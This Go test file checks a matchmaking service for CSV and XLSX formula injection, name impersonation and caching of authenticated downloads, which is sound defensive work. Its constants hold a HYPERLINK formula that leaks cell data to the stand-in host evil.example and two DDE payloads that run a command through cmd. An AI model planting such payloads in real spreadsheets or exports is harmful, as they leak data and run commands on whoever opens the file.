package api

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"ipmatch/app"
	"ipmatch/data"
	"ipmatch/data/demo"
)

// The names of issue 12: an enterprise and a bank whose registered names
// are spreadsheet formulas.
const (
	hyperlinkName = `=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")`
	ddeName       = `-2+3+cmd|' /C calc'!A0`
	sumName       = `@SUM(1+1)*cmd|' /C calc'!A0`
)

// rename stores enterprise or bank id under name.
func renameEnterprise(t *testing.T, f *fixture, id, name string) {
	t.Helper()
	e, err := f.store.Enterprises().Get(t.Context(), id)
	if err != nil {
		t.Fatal(err)
	}
	e.Name = name
	put(t, f.store.Enterprises(), &e)
}

func renameBank(t *testing.T, f *fixture, id, name string) {
	t.Helper()
	b, err := f.store.Banks().Get(t.Context(), id)
	if err != nil {
		t.Fatal(err)
	}
	b.Name = name
	put(t, f.store.Banks(), &b)
}

// csvCells parses a CSV download (after its byte-order mark) and checks
// that no cell would be read as a formula: a cell starting with =, +, -,
// @, a tab or a CR must be a plain number written by the service. It
// returns every cell.
func csvCells(t *testing.T, w *httptest.ResponseRecorder) []string {
	t.Helper()
	if w.Code != http.StatusOK {
		t.Fatalf("csv: %d %s", w.Code, w.Body)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(w.Body.String(), "\ufeff")))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var cells []string
	for _, row := range rows {
		for _, c := range row {
			cells = append(cells, c)
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				if _, err := strconv.ParseFloat(c, 64); err != nil {
					t.Errorf("cell %q would be read as a formula", c)
				}
			}
		}
	}
	return cells
}

func wantCell(t *testing.T, cells []string, want string) {
	t.Helper()
	for _, c := range cells {
		if c == want {
			return
		}
	}
	t.Errorf("no cell %q", want)
}

// Names typed by one party reach the other's schedule.csv and the
// organizer's report CSV as text, never as formulas.
func TestScheduleAndReportCSVNeutraliseFormulas(t *testing.T) {
	f := newEventFixture(t)
	body := computeDemoSchedule(t, f)
	base := "/api/v1/events/" + demo.EventID
	// Two enterprises that have meetings, and CCB (two tables), renamed
	// after the schedule is computed: the exports read the names anew.
	var met []string
	for _, m := range body.Meetings {
		if len(met) < 2 && (len(met) == 0 || met[0] != m.EnterpriseID) {
			met = append(met, m.EnterpriseID)
		}
	}
	if len(met) < 2 {
		t.Fatalf("the demo schedule has fewer than 2 enterprises: %+v", body.Meetings)
	}
	renameEnterprise(t, f, met[0], hyperlinkName)
	renameEnterprise(t, f, met[1], ddeName)
	renameBank(t, f, demo.BankCCB, sumName)

	cells := csvCells(t, f.do(evtOrgToken, "GET", base+"/schedule.csv", nil))
	wantCell(t, cells, "'"+hyperlinkName)
	wantCell(t, cells, "'"+ddeName)
	wantCell(t, cells, "'"+sumName)

	cells = csvCells(t, f.do(evtOrgToken, "GET", base+"/report?format=csv", nil))
	wantCell(t, cells, "'"+sumName)

	// The XLSX schedule holds them as string cells: no formula anywhere.
	w := f.do(evtOrgToken, "GET", base+"/schedule.xlsx", nil)
	xlsxHasNoFormula(t, w.Body.Bytes(), hyperlinkName, ddeName, sumName)
}

// The bank's pipeline of a product lists an enterprise named as a formula
// as text, in the CSV and the XLSX.
func TestPipelineExportsNeutraliseFormulas(t *testing.T) {
	f := newMatchFixture(t)
	ents, err := app.All(t.Context(), f.store.Enterprises(), data.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	attacks := []string{hyperlinkName, ddeName, sumName}
	for i, e := range ents {
		renameEnterprise(t, f, e.ID, attacks[i%len(attacks)]+e.ID)
	}
	bank := newBrowser(f)
	bank.signIn(matchCCBToken)
	url := "/app/bank/products/" + demo.ProdCCBKechuang + "/pipeline"
	cells := csvCells(t, bank.do("GET", url+".csv?as_of=2021-04-23", nil))
	prefixed := 0
	for _, c := range cells {
		for _, a := range attacks {
			if strings.HasPrefix(c, "'"+a) {
				prefixed++
			}
		}
	}
	if prefixed < len(attacks) {
		t.Errorf("%d formula names in the pipeline CSV, want at least %d", prefixed, len(attacks))
	}
	w := bank.do("GET", url+".xlsx?as_of=2021-04-23", nil)
	if w.Code != http.StatusOK {
		t.Fatalf("xlsx: %d", w.Code)
	}
	xlsxHasNoFormula(t, w.Body.Bytes(), attacks...)
}

// xlsxHasNoFormula checks that the workbook has no formula cell and that
// each of names is found as the start of a string cell.
func xlsxHasNoFormula(t *testing.T, book []byte, names ...string) {
	t.Helper()
	x, err := excelize.OpenReader(bytes.NewReader(book))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	found := map[string]bool{}
	for _, sh := range x.GetSheetList() {
		rows, err := x.GetRows(sh)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if fm, _ := x.GetCellFormula(sh, cell); fm != "" {
					t.Errorf("%s!%s holds formula %q", sh, cell, fm)
				}
				for _, n := range names {
					if strings.HasPrefix(v, n) {
						found[n] = true
						if typ, _ := x.GetCellType(sh, cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
							t.Errorf("%s!%s (%q) is of type %v, want a string", sh, cell, v, typ)
						}
					}
				}
			}
		}
	}
	for _, n := range names {
		if !found[n] {
			t.Errorf("xlsx: no cell %q", n)
		}
	}
}

// A participant's display name never stands for the party on the other
// side's schedule, calendar or exports: an enterprise registered as
// "中国建设银行" still appears under its registered name.
func TestDisplayNameCannotImpersonate(t *testing.T) {
	f := newEventFixture(t)
	const spoof = "中国建设银行肇庆分行（官方）"
	const part = "part_gaoyao_ent_0003"
	pt, err := f.store.Participants().Get(t.Context(), part)
	if err != nil {
		t.Fatal(err)
	}
	// The enterprise sets the display name itself, while the event is a draft.
	pt.Name = spoof
	if w := f.do(evtEnt3Token, "PUT", "/api/v1/participants/"+part, pt); w.Code != http.StatusOK {
		t.Fatalf("PUT participant: %d %s", w.Code, w.Body)
	}
	// So does a bank desk.
	desk, err := f.store.Participants().Get(t.Context(), "part_gaoyao_"+demo.BankCCB)
	if err != nil {
		t.Fatal(err)
	}
	desk.Name = "肇庆农商银行"
	if w := f.do(evtCCBToken, "PUT", "/api/v1/participants/"+desk.ID, desk); w.Code != http.StatusOK {
		t.Fatalf("PUT desk: %d %s", w.Code, w.Body)
	}
	ent, err := f.store.Enterprises().Get(t.Context(), "ent_0003")
	if err != nil {
		t.Fatal(err)
	}
	ccb, err := f.store.Banks().Get(t.Context(), demo.BankCCB)
	if err != nil {
		t.Fatal(err)
	}
	body := computeDemoSchedule(t, f)
	for _, m := range body.Meetings {
		if m.EnterpriseID == ent.ID && m.EnterpriseName != ent.Name {
			t.Errorf("meeting of %s shows %q, want %q", ent.ID, m.EnterpriseName, ent.Name)
		}
		if m.BankID == ccb.ID && m.BankName != ccb.Name {
			t.Errorf("meeting of %s shows %q, want %q", ccb.ID, m.BankName, ccb.Name)
		}
	}
	decodeBody(t, f.do(evtOrgToken, "POST", "/api/v1/events/"+demo.EventID+"/publish", nil), http.StatusOK, &data.Event{})
	base := "/api/v1/events/" + demo.EventID
	for _, d := range []struct{ tok, path string }{
		{evtCCBToken, base + "/schedule"},
		{evtCCBToken, base + "/schedule.csv"},
		{evtCCBToken, base + "/schedule.html"},
		{evtCCBToken, base + "/participants/part_gaoyao_" + demo.BankCCB + "/calendar.ics"},
		{evtEnt3Token, base + "/schedule"},
		{evtEnt3Token, base + "/participants/" + part + "/calendar.ics"},
		{evtOrgToken, base + "/schedule.csv"},
		{evtOrgToken, base + "/report?format=csv"},
	} {
		w := f.do(d.tok, "GET", d.path, nil)
		if w.Code != http.StatusOK {
			t.Errorf("GET %s: %d %s", d.path, w.Code, w.Body)
			continue
		}
		if s := w.Body.String(); strings.Contains(s, spoof) || strings.Contains(s, "肇庆农商银行") {
			t.Errorf("GET %s shows a display name in place of the registered name", d.path)
		}
	}
}

// Authenticated answers, downloads included, are never cached: they hold
// what this caller alone may read.
func TestAuthenticatedAnswersAreNotStored(t *testing.T) {
	f := newEventFixture(t)
	computeDemoSchedule(t, f)
	base := "/api/v1/events/" + demo.EventID
	for _, path := range []string{base, base + "/schedule.csv", base + "/schedule.xlsx", "/api/v1/enterprises?size=1"} {
		w := f.do(evtOrgToken, "GET", path, nil)
		if w.Code != 200 {
			t.Fatalf("GET %s: %d %s", path, w.Code, w.Body)
		}
		if got := w.Header().Get("Cache-Control"); got != "no-store" {
			t.Errorf("GET %s: Cache-Control %q, want no-store", path, got)
		}
	}
	// The pages' downloads, by the same rule (door.Admit).
	b := newBrowser(f)
	b.signIn(evtCCBToken)
	for _, path := range []string{"/app/bank/products/" + demo.ProdCCBKechuang + "/pipeline.csv", "/app/bank/meetings"} {
		w, _ := b.get(path)
		if w.Code != 200 {
			t.Fatalf("GET %s: %d %s", path, w.Code, w.Body)
		}
		if got := w.Header().Get("Cache-Control"); got != "no-store" {
			t.Errorf("GET %s: Cache-Control %q, want no-store", path, got)
		}
	}
}
